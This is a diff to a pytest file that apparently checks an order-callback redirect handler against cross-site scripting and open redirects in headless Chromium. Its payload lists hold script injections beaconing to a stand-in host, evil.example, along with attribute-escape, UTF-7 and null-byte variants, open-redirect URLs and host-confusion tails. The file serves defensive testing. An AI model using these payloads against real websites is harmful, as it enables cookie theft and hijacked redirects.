@@ -5,12 +5,12 @@ from typing import Any
 from urllib.parse import quote
 
 import pytest
-from playwright.sync_api import Route, sync_playwright
+from playwright.sync_api import Route
 
 from callback.processor import redirect
 from callback.settings import read_settings
 from tests.support.aws import ORDER, PARAMETERS
-from tests.support.programs import program
+from tests.support.programs import chromium
 from tests.support.template import resolved
 
 # Measuring doubles the time, and what this goes through is measured elsewhere.
@@ -23,27 +23,18 @@ _ORIGINS = {"REDIRECT_URL_TEMPLATE": f"{SHOP}/orders/{{orderId}}", "REDIRECT_ALL
 SETTINGS = read_settings(_ENVIRONMENT | _ORIGINS)
 PLAIN = {"Content-Type": "text/html; charset=utf-8"}
 CALL = "navigator.sendBeacon('//evil.example')"
-SCRIPTS = [f"<script>{CALL}</script>", f'"><script>{CALL}</script>', f"'><script>{CALL}</script>"]
+SCRIPTS = [f'"><script>{CALL}</script>', f"'><script>{CALL}</script>", f"&quot;&gt;&lt;script&gt;{CALL}"]
 SCRIPTS += [
     f"--></title></style><script>{CALL}</script>",
-    f"&quot;&gt;&lt;script&gt;{CALL}",
-    f"'\"><svg onload={CALL}>",
+    f'"><img src=x onerror="{CALL}">',
+    f"+ACIAPgA8-script+AD4-{CALL}",
 ]
-SCRIPTS += [f"+ACIAPgA8-script+AD4-{CALL}", f'\0"\0><\0script>{CALL}</script>', '"><base href=//evil.example/>']
-SCRIPTS += [f'" onfocus="{CALL}" autofocus style="background:url(//evil.example)', f'"><img src=x onerror="{CALL}">']
-SCRIPTS += ['"><meta http-equiv=refresh content="0;url=http://evil.example/">', f"'\"><svg onload={CALL}>"]
-SCRIPTS += ['\u2028"\r\n><style>*{background:url(//evil.example)}</style>']
-PLACES = [
-    "http://evil.example/",
-    "//evil.example/",
-    "/\\evil.example/",
-    "/\t/evil.example/",
-    "\x01\n http://evil.example/",
-]
-PLACES += ["..//evil.example/", "http://evil.example\\@shop.example/", "';url=http://evil.example/"]
+SCRIPTS += [f'" onfocus="{CALL}" autofocus style="background:url(//evil.example)', '"><base href=//evil.example/>']
+SCRIPTS += ['"><meta http-equiv=refresh content="0;url=http://evil.example/">', f'\0"\0><\0script>{CALL}</script>']
+PLACES = ["http://evil.example/", "//evil.example/", "/\\evil.example/", "\x01\n http://evil.example/"]
+PLACES += ["http://evil.example\\@shop.example/", "';url=http://evil.example/"]
 # What turns `http://shop.example` into another site, were it to follow at once.
-TAILS = ["@evil.example/", ":80@evil.example/", ".evil.example/", "\\@evil.example/", "\t@evil.example/"]
-TAILS += ["\r\n.evil.example/", "\u3002evil.example/", "\uff20evil.example/", "\u00ad.evil.example/"]
+TAILS = ["@evil.example/", ".evil.example/", "\\@evil.example/", "\t@evil.example/", "\u3002evil.example/"]
 # Each asks a host of its own.
 BAD_PAGE = """<script>navigator.sendBeacon('//script.evil.example')</script><img src=//image.evil.example>
 <img src=x: onerror="navigator.sendBeacon('//error.evil.example')"><img src=https://tls.evil.example>
@@ -70,8 +61,7 @@ def visit() -> Iterator[Visit]:
         else:
             route.abort()
 
-    found = program("chromium", "chromium-browser", "google-chrome", package="chromium")
-    with sync_playwright() as playwright, playwright.chromium.launch(executable_path=found) as browser:
+    with chromium() as browser:
         page = browser.new_page()
         page.route("**/*", answer)
 
